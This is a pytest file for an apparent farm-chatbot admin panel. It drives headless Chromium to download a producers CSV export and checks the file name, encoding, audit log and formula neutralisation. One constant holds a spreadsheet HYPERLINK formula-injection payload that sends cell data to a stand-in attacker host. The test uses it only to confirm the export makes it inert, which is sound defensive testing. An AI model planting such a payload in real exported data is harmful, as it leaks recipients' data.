"""An export downloaded by a real browser (headless Chromium): the link on the producers list
saves a dated CSV file, which Python's csv module reads back as the stored data, a formula-like
name made inert."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agrochat.persistence import ProducerStore
from tests.admin._chromium import chromium, log_in
from tests.admin.conftest import Panel

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2, "Ver más")'


@pytest.fixture
def driver(tmp_path: Path) -> Iterator[Any]:
    yield from chromium(tmp_path)


def test_the_producers_link_downloads_a_csv_that_reads_back_with_formulas_inert(
    panel: Panel, driver: Any, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    store = ProducerStore(panel.db)
    rosa, _ = store.get_or_create("51987654321")
    store.set_fields(rosa.id, {"nombre": "Rosa Quispe", "cultivo": "maíz"}, source="model")
    mallory, _ = store.get_or_create("51922222222")
    store.set_fields(mallory.id, {"nombre": HYPERLINK, "cultivo": "papa"}, source="model")
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    driver.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)}
    )

    log_in(driver, panel.url)
    driver.get(f"{panel.url}/admin/producers")
    driver.find_element(By.LINK_TEXT, "Exportar CSV").click()

    def downloaded(_: Any) -> Path | None:
        # Chromium writes to a .crdownload file and renames it when the download is complete.
        done = [p for p in downloads.iterdir() if p.suffix == ".csv"]
        return done[0] if done else None

    saved: Path = WebDriverWait(driver, 15).until(downloaded)
    assert saved.name.startswith("productores-") and len(saved.name) == len(
        "productores-2026-12-03.csv"
    )
    raw = saved.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [(r["id"], r["teléfono"], r["nombre"], r["cultivo"]) for r in rows] == [
        (str(rosa.id), "51987654321", "Rosa Quispe", "maíz"),
        (str(mallory.id), "51922222222", "'" + HYPERLINK, "papa"),
    ]
    assert [r.action for r in panel.audit_rows()][-1] == "export.producers"
